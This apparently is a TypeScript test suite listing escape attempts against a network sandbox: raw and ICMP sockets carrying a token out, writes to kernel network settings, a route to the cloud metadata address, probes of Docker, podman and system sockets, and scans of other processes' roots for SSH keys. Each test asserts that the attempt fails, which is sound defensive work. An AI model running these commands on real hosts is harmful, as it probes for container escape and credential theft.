/** Attacks on the sandbox's kernel interfaces: other sockets, other namespaces, sockets of the machine, descriptors. */
import assert from "node:assert/strict";
import { hex, type NetworkAttack, type Seen } from "./network-case.ts";

/** Nothing that the helper asked for was granted. */
const nothingDone = ({ output }: Seen): void => assert.doesNotMatch(output, /DONE/);
const silent = ({ output }: Seen): void => assert.equal(output, "");

const verb = (
	name: string,
	command: (aim: Parameters<NetworkAttack["script"]>[0]) => string,
	check: NetworkAttack["check"] = nothingDone,
): NetworkAttack => ({ name, script: (aim) => `./net ${command(aim)}`, check });

const ELSEWHERE = "93.184.216.34";

const SOCKETS: readonly NetworkAttack[] = [
	verb("ICMP echo by ping and raw sockets", ({ token }) => `ping ${ELSEWHERE} 0 ${hex(token)}`),
	verb("ICMPv6 echo by ping and raw sockets", ({ token }) => `ping 2606:4700::1 0 ${hex(token)}`),
	{
		name: "ICMP by the system's ping",
		script: ({ token }) =>
			`ping -c1 -W1 -p ${hex(token).slice(0, 32)} ${ELSEWHERE}; ping -6 -c1 -W1 2606:4700::1; ./net ping 10.0.2.1 0 ${hex(token)}`,
		check: ({ output }) => assert.doesNotMatch(output, /bytes from|DONE/),
	},
	verb("router advertisement", ({ token }) => `neighbour 134 ${hex(token)}`),
	verb("neighbour advertisement", ({ token }) => `neighbour 136 ${hex(token)}`),
	verb("raw IP packets", ({ port, token }) => `raw ${ELSEWHERE} ${port} ${hex(token)}`),
	verb("frames by packet sockets", ({ token }) => `packet ${hex(token)}`),
	verb("every other address family", () => "families", silent),
	verb(
		"SCTP, DCCP, UDP-Lite and every other transport over IPv4",
		({ port, token }) => `transports ${ELSEWHERE} ${port} ${hex(token)}`,
		() => undefined,
	),
	verb(
		"every other transport over IPv6",
		({ port, token }) => `transports 2606:4700::1 ${port} ${hex(token)}`,
		() => undefined,
	),
	verb("VSOCK to the hypervisor, to itself and to the machine", () => "vsock"),
	verb("a TUN device", () => "tun"),
	{
		name: "source routes, transparent sockets, marks, repair mode",
		script: ({ port, token }) => `./net options ${ELSEWHERE} ${port} ${hex(token)}`,
		check: ({ output }) => assert.doesNotMatch(output, /(?:transparent|mark|header included|repair): DONE/),
		refusal: { reason: "NOT_IN_ALLOWLIST" },
	},
	verb("binding to the gate's address", () => "bind_to 10.0.2.1 53"),
	verb("binding to the gate's IPv6 address", () => "bind_to fd00:766f::1 9080"),
	verb(
		"binding to an address of the world",
		() => `bind_to ${ELSEWHERE} 8080`,
		// A machine grants it, since every address is its own there; nothing comes of it.
		() => undefined,
	),
	verb(
		"taking over the allowed loopback server's place",
		() => "bind_to 127.0.0.1 8006",
		({ output }) =>
			// UDP is free there, and reaches nobody.
			assert.match(output, /^bind: refused \d+\nbind: DONE$/m),
	),
	verb(
		"changing the network by route netlink",
		() => "route_netlink",
		({ output }) => {
			assert.doesNotMatch(output.replace(/^route netlink: DONE\n/, ""), /DONE/);
		},
	),
	verb("nftables, conntrack, IPsec and every other netlink", () => "other_netlink", silent),
	verb("changing the interface by ioctl", () => "interface_ioctl"),
	verb(
		"another network namespace, found or made",
		() => "namespaces",
		({ output }) => assert.doesNotMatch(output, /DONE|another network/),
	),
	{
		name: "network settings",
		script: () =>
			"for f in /proc/sys/net/ipv4/ip_forward /proc/sys/net/ipv4/ping_group_range /proc/sys/net/ipv6/conf/all/forwarding; do echo 1 1000 > $f && echo WROTE; done; " +
			"ip link add planted type dummy && echo WROTE; nft add table planted && echo WROTE; ip route add 169.254.169.254 via 10.0.2.1 && echo WROTE",
		check: ({ output }) => assert.doesNotMatch(output, /WROTE/),
	},
];

const LOCAL: readonly NetworkAttack[] = [
	{
		name: "a Unix socket outside, by its path",
		script: ({ token, places }) =>
			`./net unix_socket ${places.unixSocket} ${hex(token)}; for p in /proc/[0-9]*; do ./net unix_socket $p/root${places.unixSocket} ${hex(token)}; done`,
		check: nothingDone,
		bites: "yes",
	},
	{
		name: "an abstract Unix socket outside",
		script: ({ token, places }) =>
			[1, 2, 5].map((type) => `./net unix_socket @${places.abstractName} ${hex(token)} ${type}`).join("; "),
		check: nothingDone,
		bites: "yes",
	},
	{
		name: "every Unix socket that the sandbox can see",
		script: ({ token }) =>
			`tail -n +2 /proc/net/unix | while read -r a b c d e f inode path; do [ -n "$path" ] && for type in 1 2 5; do printf '%s' "$path $type "; ./net unix_socket "$path" ${hex(token)} $type; done; done; true`,
		// podman itself lives in the run's network namespace, and its Go library opens one datagram socket there with a name
		// of the kernel's choice, from which nothing is ever read.
		check: ({ output }) => assert.doesNotMatch(output.replaceAll(/^@[0-9a-f]{5} 2 connect: DONE$/gm, ""), /DONE/),
	},
	{
		name: "the gate's own socket and the supervisor's",
		script: ({ port, token, places }) =>
			`for s in ${places.runDirectory}*/gate.sock ${places.runDirectory}*/*.sock /tmp/vouch-*/*/*.sock /run/vouch/*/gate.sock $(find / -xdev -type s 2>/dev/null); do ` +
			`./net unix_socket "$s" ${hex(`VOUCH1 tcp 9999 10.0.2.2 1 ${ELSEWHERE} ${port}\n${token}`)}; done; ` +
			`for p in /proc/[0-9]*; do ls $p/root/run/vouch $p/cwd/gate.sock; done`,
		check: nothingDone,
	},
	{
		name: "sockets of container engines and of the system",
		script: ({ token }) =>
			[
				...["/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/user/0/podman/podman.sock"],
				...["/run/user/1000/podman/podman.sock", "/run/containerd/containerd.sock", "/run/crio/crio.sock"],
				...["/run/dbus/system_bus_socket", "/run/systemd/private", "/run/nscd/socket", "/run/snapd.socket"],
				...["@/tmp/.X11-unix/X0", "/tmp/.X11-unix/X0", "@/org/kernel/linux/storage/multipathd", "@docker"],
			]
				.map((path) => `./net unix_socket ${path} ${hex(token)}`)
				.join("\n"),
		check: nothingDone,
	},
	verb("passing descriptors by what was inherited", () => "pass_descriptors", silent),
	verb("inherited descriptors: only the three, and no socket", () => "descriptors", silent),
	{
		name: "another process's root, folder and descriptors",
		script: ({ token, places }) =>
			`for p in /proc/[0-9]*; do ls -d $p/root${places.runDirectory}* $p/root/root/.ssh $p/cwd/../../gate.sock; done 2>/dev/null; ` +
			// Process 1 is the driver's own.
			`ls -l /proc/1/fd 2>/dev/null | grep -a 'socket:'; for f in /proc/[0-9]*/fd/*; do [ -S "$f" ] && ./net unix_socket "$f" ${hex(token)}; done | grep -a DONE`,
		check: silent,
	},
];

export const KERNEL_ATTACKS: readonly NetworkAttack[] = [...SOCKETS, ...LOCAL];
